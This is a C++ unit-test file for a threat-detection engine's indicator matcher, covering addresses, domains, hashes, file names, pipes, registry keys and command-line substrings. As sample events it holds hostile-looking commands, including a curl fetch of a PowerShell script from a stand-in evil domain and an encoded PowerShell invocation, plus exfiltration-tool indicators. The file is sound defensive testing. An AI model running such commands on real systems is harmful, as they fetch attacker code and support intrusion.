// Indicator matching: each indicator type against events that must and must not
// match (a subdomain that only looks alike, an address just outside a range, an
// expired indicator...), with indicators and events written here.
#include <gtest/gtest.h>

#include "detection/ioc/matcher.hpp"
#include "event/time.hpp"
#include "sources/input.hpp"
#include "sources/jsonl_reader.hpp"

using namespace vigil;
using namespace vigil::ioc;

namespace {

Indicator ind(IndicatorType t, std::string value, std::string id = "") {
  Indicator i;
  i.type = t;
  i.value = std::move(value);
  i.id = id.empty() ? i.value : id;
  return i;
}

// Numbers groups 1, 2, ... for single indicators.
std::vector<Indicator> numbered(std::vector<Indicator> v) {
  for (size_t k = 0; k < v.size(); ++k)
    if (v[k].group == 0) v[k].group = uint32_t(1000 + k);
  return v;
}

class Matching : public ::testing::Test {
 protected:
  // The ids of the indicators that match one event (a JSON object).
  std::vector<std::string> hits(const IndicatorIndex& index, const std::string& json, bool ignore_validity = false) {
    std::string error;
    EXPECT_TRUE(parse_json_event(json, ctx_, -1, &error)) << error;
    auto scratch = index.make_scratch();
    std::vector<IndicatorHit> found;
    index.match(ctx_.event, ignore_validity, *scratch, found);
    std::vector<std::string> ids;
    for (const auto& h : found) ids.push_back(index.indicators()[h.indicator].id);
    std::sort(ids.begin(), ids.end());
    return ids;
  }
  ReadContext ctx_{FieldMap::builtin()};
};

using V = std::vector<std::string>;

}  // namespace

TEST_F(Matching, AddressesAndNetworks) {
  IndicatorIndex index(numbered({ind(IndicatorType::Ip, "203.0.113.66"), ind(IndicatorType::Cidr, "198.51.100.0/25"),
                                 ind(IndicatorType::Ip, "2001:db8::bad"), ind(IndicatorType::Cidr, "2001:db8:1::/48")}));
  EXPECT_EQ(hits(index, R"({"DestinationIp":"203.0.113.66"})"), V{"203.0.113.66"});
  EXPECT_EQ(hits(index, R"({"DestinationIp":"203.0.113.67"})"), V{});
  EXPECT_EQ(hits(index, R"({"IpAddress":"198.51.100.127"})"), V{"198.51.100.0/25"});
  EXPECT_EQ(hits(index, R"({"IpAddress":"198.51.100.128"})"), V{}) << "just outside the /25";
  EXPECT_EQ(hits(index, R"({"SourceAddress":"2001:DB8:0:0::BAD"})"), V{"2001:db8::bad"}) << "any spelling of the address";
  EXPECT_EQ(hits(index, R"({"SourceAddress":"2001:db8:1:ffff::1"})"), V{"2001:db8:1::/48"});
  EXPECT_EQ(hits(index, R"({"SourceAddress":"2001:db8:2::1"})"), V{});
  EXPECT_EQ(hits(index, R"({"CommandLine":"ping 203.0.113.66x"})"), V{}) << "not an address value";
}

TEST_F(Matching, DomainsWithTheirSubdomainsOnly) {
  IndicatorIndex index(numbered({ind(IndicatorType::Domain, "evil.example")}));
  EXPECT_EQ(hits(index, R"({"QueryName":"evil.example"})"), V{"evil.example"});
  EXPECT_EQ(hits(index, R"({"QueryName":"a.b.EVIL.example."})"), V{"evil.example"});
  EXPECT_EQ(hits(index, R"({"QueryName":"notevil.example"})"), V{}) << "only looks alike";
  EXPECT_EQ(hits(index, R"({"QueryName":"evil.example.com"})"), V{}) << "another registered domain";
  EXPECT_EQ(hits(index, R"({"DestinationHostname":"cdn.evil.example"})"), V{"evil.example"});
  EXPECT_EQ(hits(index, R"({"CommandLine":"curl -k https://dl.evil.example:8443/a.ps1 -o a.ps1"})"), V{"evil.example"});
  EXPECT_EQ(hits(index, R"({"CommandLine":"nslookup x.evil.example 8.8.8.8"})"), V{"evil.example"})
      << "a host name inside a command line";
  EXPECT_EQ(hits(index, R"({"CommandLine":"nslookup x.notevil.example"})"), V{});
}

TEST_F(Matching, UrlsHashesFileNames) {
  IndicatorIndex index(numbered({
      ind(IndicatorType::Url, "https://evil.example/gate.php"),
      ind(IndicatorType::Sha256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
      ind(IndicatorType::Md5, "d41d8cd98f00b204e9800998ecf8427e"),
      ind(IndicatorType::FileName, "rclone.exe"),
  }));
  EXPECT_EQ(hits(index, R"({"url":"HTTPS://EVIL.example/gate.php"})"), V{"https://evil.example/gate.php"});
  EXPECT_EQ(hits(index, R"({"url":"https://evil.example/other.php"})"), V{});
  EXPECT_EQ(hits(index,
                 R"({"Hashes":"SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00000000000000000000000000000000"})"),
            V{"d41d8cd98f00b204e9800998ecf8427e"})
      << "inside Sysmon's Hashes field";
  EXPECT_EQ(hits(index, R"({"sha256":"E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855"})"),
            V{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"});
  EXPECT_EQ(hits(index, R"({"Image":"C:\\Users\\Public\\RClone.EXE"})"), V{"rclone.exe"});
  EXPECT_EQ(hits(index, R"({"OriginalFileName":"rclone.exe"})"), V{"rclone.exe"});
  EXPECT_EQ(hits(index, R"({"Image":"C:\\Tools\\rclone.exe.bak"})"), V{});
  EXPECT_EQ(hits(index, R"({"Image":"C:\\Tools\\notrclone.exe"})"), V{});
}

TEST_F(Matching, AgentsPipesRegistryAndCommandLines) {
  IndicatorIndex index(numbered({
      ind(IndicatorType::UserAgent, "Modzilla/0.0001 (Atari 7800)"),
      ind(IndicatorType::NamedPipe, "\\\\.\\pipe\\msagent_12"),
      ind(IndicatorType::RegistryKey, "HKEY_LOCAL_MACHINE\\SOFTWARE\\EvilCorp"),
      ind(IndicatorType::CommandLine, "-enc JABjAGwAaQBlAG4AdAA"),
  }));
  EXPECT_EQ(hits(index, R"j({"user_agent":"Modzilla/0.0001 (Atari 7800)"})j"), V{"Modzilla/0.0001 (Atari 7800)"});
  EXPECT_EQ(hits(index, R"({"user_agent":"Mozilla/5.0"})"), V{});
  EXPECT_EQ(hits(index, R"({"PipeName":"\\msagent_12"})"), V{"\\\\.\\pipe\\msagent_12"});
  EXPECT_EQ(hits(index, R"({"PipeName":"\\msagent_123"})"), V{});
  EXPECT_EQ(hits(index, R"({"TargetObject":"HKLM\\Software\\EvilCorp\\Run\\x"})"),
            V{"HKEY_LOCAL_MACHINE\\SOFTWARE\\EvilCorp"})
      << "a subkey of the indicator's key";
  EXPECT_EQ(hits(index, R"({"TargetObject":"HKLM\\Software\\EvilCorpse"})"), V{});
  EXPECT_EQ(hits(index, R"({"CommandLine":"powershell -nop -ENC jabjAGwAaQBlAG4AdAA="})"), V{"-enc JABjAGwAaQBlAG4AdAA"});
  EXPECT_EQ(hits(index, R"({"Image":"powershell -nop -ENC jabjAGwAaQBlAG4AdAA="})"), V{})
      << "substrings are looked for in command lines only";
}

TEST_F(Matching, AndGroupsNeedEveryMemberInOneEvent) {
  Indicator a = ind(IndicatorType::Ip, "203.0.113.66", "a"), b = ind(IndicatorType::FileName, "sysupd.exe", "b");
  a.group = b.group = 7;
  a.group_size = b.group_size = 2;
  IndicatorIndex index({a, b});
  EXPECT_EQ(hits(index, R"({"DestinationIp":"203.0.113.66","Image":"C:\\x\\sysupd.exe"})").size(), 1u);
  EXPECT_EQ(hits(index, R"({"DestinationIp":"203.0.113.66","Image":"C:\\x\\other.exe"})"), V{});
  EXPECT_EQ(hits(index, R"({"Image":"C:\\x\\sysupd.exe"})"), V{});
}

TEST_F(Matching, ValidityWindowAgainstTheEventTime) {
  Indicator old = ind(IndicatorType::Domain, "old.example");
  old.valid_from = *parse_iso_time("2024-01-01T00:00:00Z");
  old.valid_until = *parse_iso_time("2024-06-30T23:59:59Z");
  IndicatorIndex index(numbered({old}));
  EXPECT_EQ(hits(index, R"({"TimeCreated":"2024-03-01T10:00:00Z","QueryName":"old.example"})"), V{"old.example"});
  EXPECT_EQ(hits(index, R"({"TimeCreated":"2026-03-10T10:00:00Z","QueryName":"old.example"})"), V{})
      << "expired before the event";
  EXPECT_EQ(hits(index, R"({"TimeCreated":"2023-12-31T23:59:59Z","QueryName":"old.example"})"), V{})
      << "not yet valid";
  EXPECT_EQ(hits(index, R"({"TimeCreated":"2026-03-10T10:00:00Z","QueryName":"old.example"})", true), V{"old.example"})
      << "--ioc-ignore-validity";
  EXPECT_EQ(hits(index, R"({"QueryName":"old.example"})"), V{"old.example"}) << "no event time: not judged";
}

TEST(IndicatorNormalisation, RegistryAndPipes) {
  EXPECT_EQ(normalise_registry_key("HKEY_LOCAL_MACHINE\\Software\\X\\"), "hklm\\software\\x");
  EXPECT_EQ(normalise_registry_key("\\REGISTRY\\MACHINE\\Software\\X"), "hklm\\software\\x");
  EXPECT_EQ(normalise_registry_key("HKCU\\Software"), "hkcu\\software");
  EXPECT_EQ(normalise_pipe("\\\\.\\pipe\\Evil"), "\\evil");
  EXPECT_EQ(normalise_pipe("evil"), "\\evil");
}
